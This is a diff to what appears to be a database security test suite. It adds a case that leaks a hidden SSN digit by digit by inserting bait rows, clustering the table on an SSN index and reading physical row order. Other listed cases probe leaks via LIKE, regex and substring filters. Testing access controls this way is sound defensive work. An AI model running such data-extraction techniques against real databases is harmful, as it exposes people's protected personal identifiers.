@@ -106,7 +106,21 @@ def question(
     return clever(name, field, lambda attacker: spell(asks(attacker, form), condition, letters))
 
 
+def by_clustering(attacker: Attacker) -> str:
+    """Rows of known values around the one that is after, and the table put in order of what is hidden."""
+    connection, known = attacker.connect(), ""
+    for _ in range(9):
+        attacker.rows("delete from only people where id > 9000", on=connection)
+        baits = ", ".join(f"({9001 + digit}, 'bait', '{known}{digit}')" for digit in range(10))
+        attacker.rows(f"insert into people (id, name, ssn) values {baits}", on=connection)
+        attacker.rows("cluster people using people_ssn", on=connection)
+        order = [row[0] for row in attacker.rows("select id from only people order by ctid", on=connection)]
+        known += str(sum(1 for each in order[: order.index(attacker.id)] if each > 9000) - 1)
+    return known
+
+
 CASES: tuple[Case, ...] = (
+    clever("sorting the table itself", "ssn", by_clustering),
     question("like", "email", "email like '{guess}%'"),
     question("regular expression", "email", "email ~ '^{guess}'"),
     question("substring equals", "ssn", "left(ssn, length('{guess}')) = '{guess}'", DIGITS),
